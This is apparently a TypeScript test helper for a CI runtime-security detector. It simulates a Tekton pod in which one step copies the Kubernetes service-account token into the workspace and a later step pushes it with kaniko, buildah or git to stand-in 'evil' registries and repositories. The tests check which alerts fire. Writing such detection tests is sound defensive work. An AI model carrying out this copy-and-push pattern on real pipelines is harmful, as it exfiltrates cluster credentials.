/**
 * A Tekton/Argo task pod for the workspace tests: step 1 (`step-fetch`) runs a copy, step 2 (`step-build`)
 * reads the workspace and pushes, and the two outcomes the copy-form tests expect. Shared by the workspace-*.test.ts.
 */
import { expect } from 'vitest';
import type { Alert } from '../../../src/model/alert.js';
import { runResolved, Scenario } from './builder.js';

const GHCR = '140.82.121.33';
export const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
export type Pusher = 'kaniko' | 'buildah' | 'git';
const PUSHERS: Record<Pusher, [string, string]> = {
  kaniko: ['/kaniko/executor', '--context dir:///workspace/source --destination ghcr.io/evil/x:1'],
  buildah: ['/usr/bin/buildah', 'push ghcr.io/evil/x:1'],
  git: ['/usr/bin/git', 'push https://github.com/evil/x main'],
};

export const summary = (alerts: readonly Alert[]) =>
  alerts.map((a) => [a.rule, a.severity, a.container.name, a.push.tool, a.reads.sensitive]);

export interface Steps {
  source?: 'tetragon' | 'falco';
  pusher?: Pusher;
  /** Step 1's copy (`cp ARGS`, or `binary ARGS`). */
  copy?: string;
  binary?: string;
  /** Step 1's copy's working directory, as the sensor gives it (none: the sensor gave none). */
  cwd?: string;
  /** What step 2 reads before pushing. */
  reads?: string[];
  /** Step 2 runs in another pod (same namespace and node). */
  otherPod?: boolean;
  /** Step 1 itself reads the copy and pushes (one container), instead of step 2. */
  sameContainer?: boolean;
}

/**
 * Step 1 runs `SHELL -c SCRIPT` as Tetragon quotes it: an argument holding a blank in double quotes, nothing inside
 * escaped (its ArgsDecoder), so a script's own double quotes stand bare in the middle.
 */
export const shellStep = (
  shell: '/bin/sh' | '/bin/bash',
  script: string,
  o: Omit<Steps, 'binary' | 'copy'> = {},
): Steps => ({ binary: shell, copy: `-c "${script}"`, ...o });

export function steps(o: Steps = {}) {
  const s = new Scenario({ source: o.source ?? 'tetragon' });
  const pod = 'build-run-7x2-pod';
  const step1 = s.container({ namespace: 'ci', pod, name: 'step-fetch', image: 'docker.io/library/alpine:3' });
  const step2 = s.container({
    namespace: 'ci',
    pod: o.otherPod ? 'other-run-pod' : pod,
    name: 'step-build',
    image: 'gcr.io/kaniko-project/executor:v1.23.0',
  });
  const sh1 = s.init(step1, '/tekton/bin/entrypoint', '-post_file /tekton/run/0/out -entrypoint /bin/sh');
  const cp = s.exec(step1, o.binary ?? '/bin/cp', o.copy ?? `${TOKEN} /workspace/source/`, {
    parent: sh1,
    ...(o.cwd !== undefined ? { cwd: o.cwd } : {}),
  });
  s.read(cp, TOKEN, 1_000).exit(cp).wait(3_000);
  const pusher = o.sameContainer ? step1 : step2;
  const sh2 = o.sameContainer
    ? sh1
    : s.init(step2, '/tekton/bin/entrypoint', '-wait_file /tekton/run/0/out -entrypoint /bin/sh');
  const [binary, args] = PUSHERS[o.pusher ?? 'kaniko'];
  const p = s.exec(pusher, binary, args, { parent: sh2 });
  for (const path of o.reads ?? ['/workspace/source/token', '/workspace/source/Dockerfile']) s.read(p, path, 1_000);
  s.connect(p, GHCR, 443).send(p, GHCR, 443, 200_000).wait(2_000).exit(p).wait(60_000);
  return s.events;
}

/** The lone `low` push notice step 2's push raises when it read no secret. */
export const LOW = [['push-without-reads', 'low', 'step-build', 'kaniko', []]];

/** Each case: step 1's copy, then step 2 reads `read` (the copy) and pushes: a secret read by step 2, for both sensors. */
export async function expectSecretRead(cases: ReadonlyArray<Steps & { read: string }>) {
  for (const { read, ...o } of cases)
    for (const source of ['tetragon', 'falco'] as const)
      expect(summary((await runResolved(steps({ ...o, source, reads: [read] }))).alerts), JSON.stringify(o)).toEqual([
        ['sensitive-read-then-push', 'high', 'step-build', 'kaniko', [read]],
      ]);
}

/** Each case raises only the `low` push notice: step 1's copy made no secret of what step 2 reads. */
export async function expectQuiet(cases: readonly Steps[]) {
  for (const o of cases) expect(summary((await runResolved(steps(o))).alerts), JSON.stringify(o)).toEqual(LOW);
}
